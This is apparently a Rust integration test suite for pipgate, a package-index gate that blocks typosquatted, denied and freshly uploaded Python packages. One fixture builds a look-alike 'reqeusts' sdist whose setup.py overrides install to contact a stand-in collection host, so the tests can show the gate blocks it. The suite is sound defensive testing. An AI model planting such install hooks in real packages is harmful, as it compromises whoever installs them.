//! Verdicts at the right level, end to end with real pip and uv and the shipped policy:
//! a look-alike name alone is annotated, a corroborated one blocks the whole project with
//! one reason, a denied project answers one message, a held file's report link answers,
//! and a page that withholds a version records it in the audit log once.

mod common;
use common::*;

fn shipped_policy() -> String {
    std::fs::read_to_string(std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("policy.yaml")).unwrap()
}

fn stderr(o: &std::process::Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn now_rfc3339() -> String {
    time::OffsetDateTime::now_utc().format(&time::format_description::well_known::Rfc3339).unwrap()
}

/// A project with `n` clean releases 1.0 … 1.(n-1), uploaded long ago.
fn releases(idx: &FakeIndex, project: &str, n: usize) {
    for i in 0..n {
        idx.add_dist(project, wheel(project, &format!("1.{i}"), &[], &[]));
    }
}

/// An RFC 3339 time `days` ago.
fn days_ago(days: i64) -> String {
    (time::OffsetDateTime::now_utc() - time::Duration::days(days))
        .format(&time::format_description::well_known::Rfc3339)
        .unwrap()
}

/// A squatter's project: `n` clean releases uploaded over the last weeks (past the cooldown).
fn recent_releases(idx: &FakeIndex, project: &str, n: usize) {
    for i in 0..n {
        let mut f = FakeFile::new(wheel(project, &format!("1.{i}"), &[], &[]));
        f.upload_time = Some(days_ago(40 - i as i64));
        idx.add(project, f);
    }
}

/// An sdist whose setup.py overrides `install` to phone home.
fn phoning_sdist(project: &str, version: &str) -> Dist {
    let setup = format!(
        "from setuptools import setup\nfrom setuptools.command.install import install\nimport urllib.request\n\n\
         class PostInstall(install):\n    def run(self):\n        urllib.request.urlopen(\"http://203.0.113.9/collect\")\n        install.run(self)\n\n\
         setup(name=\"{project}\", version=\"{version}\", cmdclass={{\"install\": PostInstall}})\n"
    );
    sdist(project, version, &[("setup.py", &setup)])
}

fn audit_of(gate: &Pipgate, project: &str) -> Vec<serde_json::Value> {
    gate.audit().into_iter().filter(|r| r["project"] == project).collect()
}

#[test]
fn a_look_alike_name_alone_is_annotated_and_installs() {
    let idx = FakeIndex::start(Format::Json);
    // httpx2-style: an extension of a popular name with many releases.
    releases(&idx, "httpx2", 12);
    // A popular name one edit from a far more popular one, with nothing else against it.
    releases(&idx, "tdqm", 2);
    let gate = Pipgate::start(&idx.url(), Some(&shipped_policy()));
    for project in ["httpx2", "tdqm"] {
        let venv = Venv::new();
        let out = venv.pip(&["install", "--index-url", &gate.url, project]);
        assert!(out.status.success(), "{project}: {}", show(&out));
        let recs = audit_of(&gate, project);
        let file = recs.iter().find(|r| r["request"] == "file").unwrap_or_else(|| panic!("{project}: {recs:?}"));
        assert_eq!(file["decision"], "annotate", "{project}: {file}");
        assert!(file["findings"].as_array().unwrap().iter().any(|f| f == "metadata.typosquat"), "{file}");
    }
    let venv = Venv::new();
    let out = venv.uv_pip(&["install", "--index-url", &gate.url, "httpx2"]);
    assert!(out.status.success(), "uv: {}", show(&out));
}

#[test]
fn a_corroborated_look_alike_blocks_the_whole_project_with_one_reason_for_pip_and_uv() {
    let idx = FakeIndex::start(Format::Json);
    recent_releases(&idx, "reqeusts", 5);
    let mut hooked = FakeFile::new(phoning_sdist("reqeusts", "2.0"));
    hooked.upload_time = Some(days_ago(5));
    idx.add("reqeusts", hooked);
    let gate = Pipgate::start(&idx.url(), Some(&shipped_policy()));

    // The resolver picks 2.0 (the sdist): scanned, blocked: look-alike + install hook with network.
    let venv = Venv::new();
    let first = venv.pip(&["install", "--index-url", &gate.url, "reqeusts"]);
    assert!(!first.status.success(), "{}", show(&first));
    let err = stderr(&first);
    assert!(err.contains("403") && err.contains("Blocked by pipgate"), "{err}");

    // Every retry, unpinned or pinned to a clean release, meets the same project-level reason
    // instead of falling back to the next file.
    for args in [vec!["reqeusts"], vec!["reqeusts==1.4"], vec!["reqeusts==1.0"]] {
        let venv = Venv::new();
        let mut all = vec!["install", "--index-url", &gate.url];
        all.extend(args.iter().copied());
        let out = venv.pip(&all);
        assert!(!out.status.success(), "pip {args:?}: {}", show(&out));
        let err = stderr(&out);
        assert!(
            err.contains("Blocked by pipgate: metadata.typosquat (rule:typosquat-of-popular-project)"),
            "pip {args:?}: {err}"
        );
        let out = venv.uv_pip(&all);
        assert!(!out.status.success(), "uv {args:?}: {}", show(&out));
        let err = stderr(&out);
        assert!(err.contains("403") && err.contains("reqeusts resembles requests"), "uv {args:?}: {err}");
    }
    // The clean releases were never downloaded: the project verdict needs no bytes.
    let hits = idx.state.lock().unwrap().hits.clone();
    for i in 0..5 {
        let f = format!("reqeusts-1.{i}-py3-none-any.whl");
        assert!(!hits.keys().any(|k| k.ends_with(&f)), "{f} was downloaded: {hits:?}");
    }
    let recs = audit_of(&gate, "reqeusts");
    let pinned = recs.iter().find(|r| r["version"] == "1.0" && r["request"] != "page").expect("1.0 audited");
    assert_eq!(pinned["decision"], "block");
    assert_eq!(pinned["reasons"][0]["code"], "rule:typosquat-of-popular-project", "{pinned}");

    // `policy accept` on a clean file of the project proposes a project-wide acceptance of
    // the name; pasted into the policy (hot reload), the name no longer blocks, and an
    // unpinned install falls back past the file that carries the behaviour itself.
    let policy_path = gate.data_dir.parent().unwrap().join("policy.yaml");
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_pipgate"))
        .args(["policy", "accept", "reqeusts==1.0", "--upstream", &idx.url()])
        .arg("--policy")
        .arg(&policy_path)
        .arg("--data-dir")
        .arg(&gate.data_dir)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", show(&out));
    let snippet = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(snippet.contains("findings: [\"metadata.typosquat\"]"), "{snippet}");
    assert!(!snippet.contains("version:") && !snippet.contains("sha256:"), "project-wide: {snippet}");
    let text = std::fs::read_to_string(&policy_path).unwrap() + &snippet;
    let staged = policy_path.with_extension("new");
    std::fs::write(&staged, text).unwrap();
    std::fs::rename(&staged, &policy_path).unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    let venv = Venv::new();
    loop {
        let out = venv.pip(&["install", "--index-url", &gate.url, "reqeusts"]);
        if out.status.success() {
            break;
        }
        assert!(std::time::Instant::now() < deadline, "the acceptance did not clear the block: {}", show(&out));
        std::thread::sleep(std::time::Duration::from_millis(500));
    }
    assert_eq!(venv.run("import reqeusts; print(reqeusts.VERSION)"), "1.4");
}

#[test]
fn a_denied_project_with_many_releases_answers_one_message() {
    let idx = FakeIndex::start(Format::Json);
    releases(&idx, "demo-denied", 8);
    let policy = shipped_policy().replace("deny: []", "deny: [\"demo-denied\"]");
    let gate = Pipgate::start(&idx.url(), Some(&policy));
    for attempt in 0..2 {
        let venv = Venv::new();
        let out = venv.pip(&["install", "--index-url", &gate.url, "demo-denied"]);
        assert!(!out.status.success(), "{}", show(&out));
        assert!(stderr(&out).contains("Blocked by pipgate: deny-list"), "attempt {attempt}: {}", show(&out));
        let out = venv.uv_pip(&["install", "--index-url", &gate.url, "demo-denied"]);
        assert!(!out.status.success(), "{}", show(&out));
        assert!(stderr(&out).contains("deny list"), "uv attempt {attempt}: {}", show(&out));
    }
    // Always the newest release, never a walk through the others.
    let versions: std::collections::BTreeSet<String> = audit_of(&gate, "demo-denied")
        .iter()
        .filter(|r| r["request"] != "page")
        .map(|r| r["version"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(versions.into_iter().collect::<Vec<_>>(), ["1.7"]);
}

#[test]
fn a_held_file_links_to_a_report_that_says_why_and_how_to_exempt() {
    let idx = FakeIndex::start(Format::Json);
    let mut fresh = FakeFile::new(wheel("demo-held", "1.0", &[], &[]));
    fresh.upload_time = Some(now_rfc3339());
    idx.add("demo-held", fresh);
    let gate = Pipgate::start(&idx.url(), Some(&shipped_policy()));
    let page: serde_json::Value = http()
        .get(format!("{}demo-held/", gate.url))
        .header("accept", "application/vnd.pypi.simple.v1+json")
        .send()
        .unwrap()
        .json()
        .unwrap();
    let file_url = url::Url::parse(&format!("{}demo-held/", gate.url))
        .unwrap()
        .join(page["files"][0]["url"].as_str().unwrap())
        .unwrap();
    let resp = http().get(file_url.clone()).send().unwrap();
    assert_eq!(resp.status(), 403);
    let problem: serde_json::Value = resp.json().unwrap();
    let report_url = file_url.join(problem["instance"].as_str().unwrap()).unwrap();
    let report = http().get(report_url.clone()).send().unwrap();
    assert_eq!(report.status(), 200, "{report_url}");
    let text = report.text().unwrap();
    for says in ["is held by pipgate", "cooldown", "held until", "cooldown.exempt", "demo-held==1.0"] {
        assert!(text.contains(says), "{says:?} not in:\n{text}");
    }
    let json: serde_json::Value =
        http().get(report_url).header("accept", "application/json").send().unwrap().json().unwrap();
    assert_eq!((json["held"].as_bool(), json["scanned"].as_bool()), (Some(true), Some(false)), "{json}");
    assert!(json["available_at"].is_string(), "{json}");
}

#[test]
fn an_unpinned_install_that_falls_back_past_a_held_version_is_in_the_audit_log_once() {
    let idx = FakeIndex::start(Format::Json);
    idx.add_dist("demo-fall", wheel("demo-fall", "2.12.0", &[], &[]));
    let mut fresh = FakeFile::new(wheel("demo-fall", "2.14.0", &[], &[]));
    fresh.upload_time = Some(now_rfc3339());
    idx.add("demo-fall", fresh);
    let gate = Pipgate::start(&idx.url(), Some(&shipped_policy()));
    for _ in 0..2 {
        let venv = Venv::new();
        let out = venv.pip(&["install", "--index-url", &gate.url, "demo-fall"]);
        assert!(out.status.success(), "{}", show(&out));
        assert_eq!(venv.run("import demo_fall; print(demo_fall.VERSION)"), "2.12.0");
    }
    let data = gate.data_dir.to_str().unwrap();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_pipgate"))
        .args(["audit", "--project", "demo-fall", "--format", "json", "--data-dir", data])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", show(&out));
    let lines: Vec<serde_json::Value> =
        String::from_utf8_lossy(&out.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let pages: Vec<&serde_json::Value> = lines.iter().filter(|r| r["request"] == "page").collect();
    assert_eq!(pages.len(), 1, "one record per page state, however often it is resolved: {pages:?}");
    let p = pages[0];
    assert_eq!((p["version"].as_str(), p["decision"].as_str()), (Some("2.14.0"), Some("block")), "{p}");
    assert_eq!(p["reasons"][0]["code"], "cooldown", "{p}");
    let withheld = p["reasons"].as_array().unwrap().iter().find(|r| r["code"] == "withheld").expect("withheld reason");
    assert!(withheld["message"].as_str().unwrap().contains("gets 2.12.0 instead"), "{withheld}");
    let table = std::process::Command::new(env!("CARGO_BIN_EXE_pipgate"))
        .args(["audit", "--project", "demo-fall", "--data-dir", data])
        .output()
        .unwrap();
    let table = String::from_utf8_lossy(&table.stdout);
    assert!(table.lines().any(|l| l.contains("2.14.0") && l.contains("cooldown")), "{table}");
}

#[test]
fn a_project_verdict_survives_a_restart_for_a_lockfile_that_skips_the_page() {
    let idx = FakeIndex::start(Format::Json);
    recent_releases(&idx, "reqeusts", 3);
    let mut hooked = FakeFile::new(phoning_sdist("reqeusts", "2.0"));
    hooked.upload_time = Some(days_ago(5));
    idx.add("reqeusts", hooked);
    let clean = wheel("reqeusts", "1.0", &[], &[]);
    let url = format!("/files/{}/{}", sha256_hex(&clean.bytes), clean.filename);
    let dir = tempfile::tempdir().unwrap();
    let policy = dir.path().join("policy.yaml");
    std::fs::write(&policy, shipped_policy()).unwrap();
    let data = dir.path().join("data");
    {
        let gate = Pipgate::start_with(&idx.url(), &policy, &data);
        let out = Venv::new().pip(&["install", "--index-url", &gate.url, "reqeusts"]);
        assert!(!out.status.success(), "{}", show(&out));
    }
    // A new process with the same data directory; the lockfile goes straight to the file URL.
    let gate = Pipgate::start_with(&idx.url(), &policy, &data);
    let resp = http().get(format!("{}{url}", gate.base())).send().unwrap();
    assert_eq!(resp.status(), 403);
    let problem: serde_json::Value = resp.json().unwrap();
    assert_eq!(problem["reasons"][0]["code"], "rule:typosquat-of-popular-project", "{problem}");
}
